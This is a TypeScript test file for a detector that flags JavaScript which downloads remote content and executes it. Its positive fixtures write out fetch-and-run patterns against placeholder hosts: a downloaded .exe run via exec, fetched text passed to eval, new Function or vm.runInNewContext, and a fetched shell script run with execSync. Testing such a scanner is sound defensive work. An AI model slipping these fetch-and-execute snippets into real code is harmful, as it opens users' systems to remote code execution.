import assert from 'node:assert/strict';
import { test } from 'node:test';
import { javascriptDownloads } from './javascript-downloads.ts';

const linesOf = (source: string) => javascriptDownloads(source).map(({ line }) => line);
const PROCESS = "const { exec } = require('child_process');\n";

for (const [why, source, expected] of [
  [
    'a file that is piped',
    `${PROCESS}const dest = path.join(os.tmpdir(), 'u.exe');
https.get('https://x.invalid/u', (res) => {
  const file = fs.createWriteStream(dest);
  res.pipe(file);
  file.on('finish', () => {
    exec(dest);
  });
});
`,
    [7],
  ],
  [
    'text that is collected',
    `let body = '';
https.get(
  'https://x.invalid/a',
  function (res) {
    res.on('data', (chunk) => { body += chunk; });
    res.on('end', () => { eval(body); });
  },
);
`,
    [6],
  ],
  [
    'what is awaited',
    `const r = await fetch('https://x.invalid/a');\nconst t = await r.text()\nnew Function(t)()\n`,
    [3],
  ],
  [
    'a file by its name',
    `const cp = require('child_process');
const { data } = await axios.get('https://x.invalid/a');
fs.writeFileSync('/tmp/run.sh', data);
cp.execSync('sh /tmp/run.sh');
cp.spawn('/tmp/run.sh');
`,
    [4, 5],
  ],
  ['what is all on one line', `var a=1;fetch(u).then(r=>r.text()).then(t=>{var q=t;eval(q)});`, [1]],
  [
    'promises',
    `fetch('https://x.invalid/a')\n  .then((r) => r.text())\n  .then((t) => {\n    vm.runInNewContext(t);\n  });\n`,
    [4],
  ],
] as const) {
  test(`follows ${why}`, () => assert.deepEqual(linesOf(source), expected));
}

for (const [why, source] of [
  ['a download that is shown', `fetch('/api/data').then((r) => r.json()).then((d) => {\n  render(d);\n});\n`],
  ['a program of its own', `${PROCESS}fetch('/api').then((r) => {\n  log(r);\n});\nexec('git status');\n`],
  [
    'regular expressions that are executed',
    `const r = await fetch('/a');\nconst t = await r.text();\nconst m = /a/.exec(t);\n`,
  ],
  ['eval of what it holds itself', `const t = '1 + 1';\neval(t);\nfetch('/a');\n`],
  ['a comment', `const t = await fetch('/a');\n// eval(t)\n/* eval(t)\n*/\n`],
  ['a text', `const t = await fetch('/a');\nlog("eval(t)");\n`],
  ['nothing that is JavaScript', '\0"\'`/*(((((({{{{{{=>=>'],
] as const) {
  test(`is quiet about ${why}`, () => assert.deepEqual(linesOf(source), []));
}
